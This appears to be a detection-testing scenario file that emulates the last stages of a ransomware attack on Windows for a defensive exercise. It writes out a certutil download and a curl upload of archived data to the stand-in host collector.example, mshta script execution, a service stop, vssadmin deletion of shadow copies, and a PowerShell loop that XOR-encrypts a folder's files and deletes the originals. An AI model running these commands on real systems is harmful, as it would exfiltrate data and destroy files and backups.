import { alerted, logged, prevented, type StarterScenario } from './shape.ts';

const windows = { platforms: ['windows'] };

export const goal: StarterScenario = {
  name: 'Towards the goal: ransomware',
  description:
    'What happens in the last hour before a ransom note: tools arrive, data leaves, backups go, files change. Run it against a folder made for it, never against real data.',
  tags: ['windows', 'exfiltration', 'impact', 'ransomware'],
  tests: [
    {
      key: 'certutil-download',
      technique: 'T1105',
      name: 'Fetch a tool with certutil',
      description: 'A harmless file is fetched with a program of Windows that is meant for certificates.',
      objective: 'Bring a tool to the host with what is there already.',
      procedure:
        'Serve damson.txt from a host of the exercise, #{collector}. Keep the output and the proxy’s answer, if there is one.',
      command:
        'certutil.exe -urlcache -split -f http://#{collector}/damson.txt C:\\Windows\\Temp\\damson.txt',
      cleanup_command:
        'del C:\\Windows\\Temp\\damson.txt & certutil.exe -urlcache http://#{collector}/damson.txt delete',
      expected_detection:
        'Process creation of certutil.exe with -urlcache; a network connection of certutil.exe; stopped by the endpoint’s protection.',
      ...windows,
      opsec: 'high',
      tags: ['living off the land'],
      expectations: [prevented, alerted('high', 5)],
      variables: { collector: 'collector.example' },
    },
    {
      key: 'signed-proxy',
      technique: 'T1218.005',
      name: 'Run a script through mshta',
      description: 'A line of script is run by a program that Windows trusts.',
      objective: 'Pass a rule that allows programs by their signature.',
      procedure: 'Run the command from the foothold. A window of the calculator shows that it worked.',
      command: "mshta.exe \"javascript:a=new ActiveXObject('WScript.Shell');a.Run('calc.exe');close()\"",
      cleanup_command: 'taskkill /im CalculatorApp.exe /f',
      expected_detection:
        'Process creation of mshta.exe with javascript: in its arguments; a child process of mshta.exe.',
      ...windows,
      opsec: 'medium',
      tags: ['living off the land'],
      expectations: [alerted('high', 10), logged],
    },
    {
      key: 'archive-data',
      technique: 'T1560.001',
      name: 'Pack a folder into an archive',
      description: 'A folder of made-up documents is packed into one file in the temporary folder.',
      objective: 'Get data ready to leave.',
      procedure:
        'Fill C:\\Canary with some hundred made-up documents first. Pack them and note the size of the archive.',
      command: 'tar.exe -a -c -f %TEMP%\\damson.zip C:\\Canary',
      cleanup_command: 'del %TEMP%\\damson.zip',
      expected_detection:
        'An archive of more than 50 MB made in a temporary folder by a program of the command line.',
      ...windows,
      opsec: 'low',
      tags: ['canary data'],
      expectations: [logged],
    },
    {
      key: 'upload-data',
      technique: 'T1048.003',
      name: 'Send an archive out without encryption',
      description: 'The archive of the test before is sent to a host of the exercise by plain HTTP.',
      objective: 'Take data out by a way that is open almost everywhere.',
      procedure:
        'Let #{collector} take uploads on port 8080. Send the archive and compare its digest on both sides.',
      command: 'curl.exe -T %TEMP%\\damson.zip http://#{collector}:8080/damson.zip',
      cleanup_command: null,
      expected_detection:
        'More than 50 MB from one workstation to an address that nobody talked to before; curl.exe with -T; refused by the proxy.',
      ...windows,
      opsec: 'medium',
      tags: ['canary data', 'data loss'],
      expectations: [prevented, alerted('medium', 30)],
      variables: { collector: 'collector.example' },
    },
    {
      key: 'stop-services',
      technique: 'T1489',
      name: 'Stop a service that holds files open',
      description: 'A service made for the exercise is stopped, as those of databases and backups would be.',
      objective: 'Close files, so that they can be encrypted.',
      procedure:
        'Needs an elevated console. Use the print spooler of a host where nobody prints, or a service made for this.',
      command: 'net stop Spooler /y',
      cleanup_command: 'net start Spooler',
      expected_detection:
        'System event 7036 for several services within a minute; process creation of net.exe with stop and /y.',
      ...windows,
      opsec: 'medium',
      tags: ['needs elevation'],
      expectations: [logged],
    },
    {
      key: 'delete-shadow-copies',
      technique: 'T1490',
      name: 'Delete shadow copies',
      description: 'The local snapshots of a disk are deleted, which is what ransomware does first.',
      objective: 'Leave the owner without a way back.',
      procedure:
        'Only on a host of the range whose snapshots nobody needs. Needs an elevated console. Make one snapshot before, so that there is something to lose.',
      command: 'vssadmin.exe delete shadows /for=C: /oldest /quiet',
      cleanup_command: null,
      expected_detection:
        'Process creation of vssadmin.exe with delete shadows: nobody has a reason for it. Stopped by the endpoint’s protection.',
      ...windows,
      opsec: 'high',
      tags: ['needs elevation', 'not reversible'],
      expectations: [prevented, alerted('critical', 5)],
    },
    {
      key: 'encrypt-canary',
      technique: 'T1486',
      name: 'Encrypt a canary folder',
      description:
        'The documents of a folder made for it are encrypted one after the other with a key that is written down here.',
      objective: 'See how far encryption gets before somebody stops it.',
      procedure:
        '1. Fill C:\\Canary with copies of made-up documents.\n2. Start the command and a stopwatch.\n3. Count how many files were changed when it was stopped, or how long it took to the end.',
      command:
        'Get-ChildItem C:\\Canary -File | ForEach-Object { $b = [IO.File]::ReadAllBytes($_.FullName); for ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor 0x5A }; [IO.File]::WriteAllBytes("$($_.FullName).damson", $b); Remove-Item $_.FullName }',
      cleanup_command: 'Remove-Item C:\\Canary\\*.damson',
      expected_detection:
        'Many files of one folder written and renamed by one process within seconds; a canary file that sets off an alarm; the process is stopped.',
      ...windows,
      opsec: 'high',
      tags: ['canary data', 'not reversible'],
      expectations: [prevented, alerted('critical', 2)],
    },
  ],
};
